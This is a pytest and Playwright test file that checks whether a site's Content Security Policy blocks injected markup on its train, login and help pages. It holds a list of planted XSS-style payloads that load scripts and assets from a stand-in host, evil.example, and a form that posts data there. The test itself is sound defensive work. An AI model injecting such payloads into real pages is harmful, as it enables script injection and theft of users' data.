"""The policy of our pages as a browser holds it: what somebody manages to put into a page does not run, load or send."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, Route

from tests.browser.conftest import CHROMIUM
from tests.web.lesson import lesson, serving

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    if CHROMIUM is None:
        pytest.skip("there is no chromium on PATH")
    with serving(lesson(tmp_path_factory.mktemp("policy"))) as address:
        yield address


PLANTED = """
<script>window.__pwn = 'inline'</script>
<script src="https://evil.example/x.js"></script>
<img src="https://evil.example/p.png">
<img src=x onerror="window.__pwn = 'handler'">
<style>body { background: url(https://evil.example/b.png) }</style>
<link rel="stylesheet" href="https://evil.example/x.css">
<iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/x.swf"></object>
<base href="https://evil.example/">
<form id="planted" action="https://evil.example/take" method="post"><input name="a" value="b"></form>
"""
DIRECTIVES = {
    "script-src-elem",
    "script-src-attr",
    "img-src",
    "style-src-elem",
    "frame-src",
    "object-src",
    "base-uri",
    "form-action",
}
WATCH = """window.violated = []; document.addEventListener('securitypolicyviolation', one => window.violated.push(one.effectiveDirective));"""


@pytest.mark.check("X03")
@pytest.mark.parametrize("path", ["/train", "/login", "/help"])
def test_what_is_planted_in_a_page_does_nothing(
    browser: Browser, site: str, path: str, record_property: Callable[[str, str], None]
) -> None:
    reached: list[str] = []

    def plant(route: Route) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=response.text().replace("</main>", f"{PLANTED}</main>"))

    def reach(route: Route) -> None:
        reached.append(route.request.url)  # what the policy blocks does not come here
        route.abort()

    context = browser.new_context()
    try:
        context.add_init_script(WATCH)
        context.route("https://evil.example/**", reach)
        context.route(f"{site}{path}", plant)
        page = context.new_page()
        page.goto(site + path)
        page.wait_for_selector("#planted", state="attached")
        page.evaluate("document.getElementById('planted').submit()")
        page.wait_for_function("window.violated.includes('form-action')")
        violated = set(page.evaluate("window.violated"))
        assert page.evaluate("window.__pwn ?? null") is None
        assert page.url == site + path
    finally:
        context.close()
    assert reached == []
    assert violated == DIRECTIVES
    record_property("figure", f"{path}: {len(violated)} of {len(DIRECTIVES)} kinds blocked and reported, nothing sent")
